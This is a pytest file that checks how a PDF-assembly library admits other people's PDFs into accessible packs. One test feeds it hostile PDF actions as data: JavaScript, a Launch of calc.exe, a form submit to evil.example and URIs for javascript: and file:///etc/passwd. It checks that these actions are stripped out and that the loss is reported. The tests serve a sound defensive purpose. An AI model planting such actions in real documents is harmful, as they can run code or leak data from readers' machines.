"""Other people's PDFs in a pack."""

from __future__ import annotations

import io
import os
import time
import zlib
from pathlib import Path

import pypdf
import pytest

from clinicpress.assemble import JoinedPack, Part, admit_foreign, join_parts
from clinicpress.errors import AssembleError
from clinicpress.verify.conformance import check_conformance
from clinicpress.verify.structure import check_structure
from tests.unit.assemble.packs import a_part, foreign_pdf, marks, reader, stamps_for
from tests.unit.render.finish.rendering import elements

SHARED = Path(os.environ.get("CLINICPRESS_SHARED", Path(__file__).resolve().parents[3].parent / "shared"))
CASES = sorted((SHARED / "cases" / "pdfs").glob("*.pdf"))
LONGEST_S = 20


def admitted(pdf: bytes, *, alt: str | None = "A letter about a knee") -> JoinedPack:
    """Return a pack of one foreign file."""
    return join_parts((admit_foreign(pdf, "letter.pdf", title="GP's letter", alt=alt),), marks())


def test_an_untagged_page_is_a_figure_with_words() -> None:
    """A scan is read out as its alternative text, and the pack stays PDF/UA."""
    pack = admitted(foreign_pdf())
    (figure,) = elements(pack.pdf, "Figure")
    assert figure["/Alt"] == "A letter about a knee"
    assert check_structure(pack.pdf) == ()
    assert check_conformance(pack.pdf) == ()


def test_without_words_the_pack_is_made_and_says_so() -> None:
    """No alternative text: no claim, and the reason names the part."""
    pack = admitted(foreign_pdf(), alt=None)
    assert not pack.claims.ua
    assert "GP's letter (letter.pdf) keeps the pack from PDF/UA-1: it is not tagged" in pack.prevented_by[0]
    assert elements(pack.pdf, "Figure")[0]["/Alt"] == "GP's letter"


def test_old_marks_of_an_untagged_page_are_taken_out() -> None:
    """Marks that lead nowhere go; what is painted, and optional content, stay."""
    content = b"/OC /L1 BDC /P <</MCID 0/X<</Y 1>>>> BDC 0 0 9 9 re f EMC EMC (a BMC) Tj EMC"
    pack = admitted(foreign_pdf(content=content))
    left = reader(pack.pdf).pages[0].get_contents().get_data()
    assert b"/OC /L1 BDC" in left
    assert b"(a BMC) Tj" in left
    assert b"/P <<" not in left
    assert check_structure(pack.pdf) == ()


def test_a_tagged_file_keeps_its_structure() -> None:
    """A foreign tagged file's elements stand below its part; unchecked, it prevents the claim."""
    own = a_part("Theirs")
    pack = join_parts((admit_foreign(own.pdf, "theirs.pdf", title="Theirs"), a_part("Ours")), marks())
    assert len(elements(pack.pdf, "H1")) == 2
    assert check_structure(pack.pdf) == ()
    assert pack.prevented_by[0].endswith("keeps the pack from PDF/UA-1: it is tagged, but was not checked.")


def test_a_checked_file_does_not_prevent_the_claim() -> None:
    """Once the caller knows that it conforms, the pack may say so."""
    own = a_part("Theirs")
    part = Part(title="T", language="en", pdf=own.pdf, source="t.pdf", kind="foreign", ua_faults=())
    assert join_parts((part,), marks()).claims.ua


def test_a_protected_file_is_named() -> None:
    """An encrypted PDF is one clear error with advice."""
    writer = pypdf.PdfWriter()
    writer.add_blank_page(10, 10)
    writer.encrypt("secret", algorithm="AES-256")
    out = io.BytesIO()
    writer.write(out)
    with pytest.raises(AssembleError, match="password") as caught:
        admitted(out.getvalue())
    assert caught.value.where == "letter.pdf"
    assert caught.value.hint


@pytest.mark.parametrize("pdf", [b"", b"no pdf", b"%PDF-1.7\n" + b"\0" * 99, foreign_pdf()[:150]])
def test_a_damaged_file_is_named(pdf: bytes) -> None:
    """Whatever pypdf raises, one clear error names the file."""
    with pytest.raises(AssembleError) as caught:
        admitted(pdf)
    assert caught.value.where == "letter.pdf"


def test_a_page_that_breaks_off_is_no_page() -> None:
    """Content that can be read in part only is refused: nobody would know what is missing."""
    whole = zlib.compress(b"0 0 9 9 re f\n" * 999)
    pdf = foreign_pdf(content=whole).replace(b"<</Length", b"<</Filter/FlateDecode/Length")
    assert admitted(pdf).claims.ua
    with pytest.raises(AssembleError, match="damaged"):
        admitted(pdf.replace(whole, whole[:20] + bytes(len(whole) - 20)))


def test_a_file_of_too_many_pages_is_refused() -> None:
    """The limit is said with the number."""
    writer = pypdf.PdfWriter()
    for _ in range(2001):
        writer.add_blank_page(10, 10)
    out = io.BytesIO()
    writer.write(out)
    with pytest.raises(AssembleError, match="2001 pages"):
        admitted(out.getvalue())


@pytest.mark.parametrize(
    ("action", "loss"),
    [
        (b"/S/JavaScript/JS(app.alert(1))", "JavaScript"),
        (b"/S/Launch/F(calc.exe)", "Launch"),
        (b"/S/SubmitForm/F(http://evil.example)", "SubmitForm"),
        (b"/S/GoToR/F(other.pdf)/D[0/Fit]", "GoToR"),
        (b"/S/URI/URI(javascript:alert\\(1\\))", "javascript"),
        (b"/S/URI/URI(file:///etc/passwd)", "file"),
    ],
)
def test_what_acts_is_left_behind_and_said(action: bytes, loss: str) -> None:
    """No action but going to a safe address or a place in the part comes in."""
    page = b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<<" + action + b">>>>]/AA<</O<<" + action + b">>>>"
    pack = admitted(foreign_pdf(page=page, catalog=b"/OpenAction<<" + action + b">>"))
    assert any(loss in line for line in pack.losses)
    assert "/Annots" not in reader(pack.pdf).pages[0]
    assert "/AA" not in reader(pack.pdf).pages[0]
    assert "/OpenAction" not in reader(pack.pdf).trailer["/Root"]


def test_safe_links_of_an_untagged_page_are_elements() -> None:
    """A link in a scan stays, and is found by a screen reader."""
    page = b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(mailto:a@e.example)>>>>]"
    pack = admitted(foreign_pdf(page=page))
    assert len(elements(pack.pdf, "Link")) == 1
    assert check_structure(pack.pdf) == ()
    assert check_conformance(pack.pdf) == ()


FIELD = (
    b"5 0 obj<</Type/Annot/Subtype/Widget/FT/Tx/T(name)/V(Ann)/Rect[10 10 30 20]/AP<</N 6 0 R>>>>endobj\n"
    b"6 0 obj<</Type/XObject/Subtype/Form/BBox[0 0 10 5]/Length 12>>stream\n0 0 10 5 re f\nendstream endobj"
)


def test_what_was_entered_in_a_form_stays_visible() -> None:
    """A field's appearance is drawn at its place; the field itself goes."""
    pack = admitted(foreign_pdf(page=b"/Annots[5 0 R]", objects=FIELD))
    page = reader(pack.pdf).pages[0]
    assert b"q 2 0 0 2 10 10 cm /PackFlat0 Do Q" in page.get_contents().get_data()
    assert "/Annots" not in page
    assert check_structure(pack.pdf) == ()


def test_hidden_annotations_stay_hidden() -> None:
    """What the file does not show is not drawn."""
    field = FIELD.replace(b"/FT/Tx", b"/FT/Tx/F 2")
    pack = admitted(foreign_pdf(page=b"/Annots[5 0 R]", objects=field))
    assert b"PackFlat" not in reader(pack.pdf).pages[0].get_contents().get_data()


def test_a_comment_in_a_hidden_layer_stays_hidden() -> None:
    """What a layer hides is not drawn into the page when its annotation is taken away."""
    objects = FIELD.replace(b"/FT/Tx", b"/FT/Tx/OC 7 0 R") + b"\n7 0 obj<</Type/OCG/Name(Hidden)>>endobj"
    for state, drawn in ((b"/OFF[7 0 R]", False), (b"/OFF[]", True), (b"/BaseState/OFF", False)):
        catalog = b"/OCProperties<</OCGs[7 0 R]/D<<" + state + b">>>>"
        pack = admitted(foreign_pdf(page=b"/Annots[5 0 R]", catalog=catalog, objects=objects))
        assert ("/PackFlat0" in reader(pack.pdf).pages[0]["/Resources"].get("/XObject", {})) is drawn


def test_bookmarks_that_act_lose_it_and_that_is_said() -> None:
    """A bookmark that opens a page of the web stays as a title; one that leads in a circle too."""
    outline = (
        b"\n8 0 obj<</Type/Outlines/First 9 0 R/Last 10 0 R>>endobj"
        b"\n9 0 obj<</Title(Web)/Parent 8 0 R/Next 10 0 R/A<</S/URI/URI(https://clinic.example)>>>>endobj"
        b"\n10 0 obj<</Title(Round)/Parent 8 0 R/Dest 11 0 R>>endobj\n11 0 obj<</D 11 0 R>>endobj"
    )
    pack = admitted(foreign_pdf(catalog=b"/Outlines 8 0 R", objects=outline))
    assert pack.losses == ("GP's letter (letter.pdf) lost what bookmarks do but go to a place in the file.",)


def test_a_place_by_page_number_is_kept() -> None:
    """A link that names its page by number, as some programs write it, leads to that page."""
    link = b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/Dest[0/Fit]>>]"
    pack = admitted(foreign_pdf(page=link))
    opened = reader(pack.pdf)
    assert opened.pages[0]["/Annots"][0].get_object()["/Dest"][0].get_object() == opened.pages[0]


def test_a_turned_page_is_stamped_upright() -> None:
    """The stamp is at the foot as the page is shown, whichever way it was turned."""
    part = admit_foreign(foreign_pdf(page=b"/Rotate 90"), "scan.pdf", title="Scan", alt="A scan")
    pack = join_parts((part,), marks(stamps=stamps_for(1)))
    page = reader(pack.pdf).pages[0]
    assert page["/Rotate"] == 90
    assert b"q 0 1 -1 0 200 0 cm /PackStamp Do Q" in page.get_contents().get_data()


@pytest.mark.skipif(not CASES, reason="../shared/cases is not beside this checkout")
@pytest.mark.parametrize("path", CASES, ids=lambda path: path.stem[-50:])
def test_any_file_joins_whole_or_is_one_error(path: Path) -> None:
    """Others' files, good and bad: all their pages with a sound structure, or one error that names the file."""
    started = time.monotonic()
    pack = pack_or_error(path)
    assert time.monotonic() - started < LONGEST_S
    if isinstance(pack, AssembleError):
        assert pack.where == path.name
    else:
        assert len(reader(pack.pdf).pages) == 2 + len(reader(path.read_bytes()).pages)
        assert check_structure(pack.pdf) == ()


def pack_or_error(path: Path) -> JoinedPack | AssembleError:
    """Return a pack of one of our pages and a foreign file, or why there is none."""
    try:
        part = admit_foreign(path.read_bytes(), path.name, title="Letter", alt="A letter")
        return join_parts((a_part("Ours", body="<h1>Ours</h1>"), part), marks())
    except AssembleError as error:
        return error
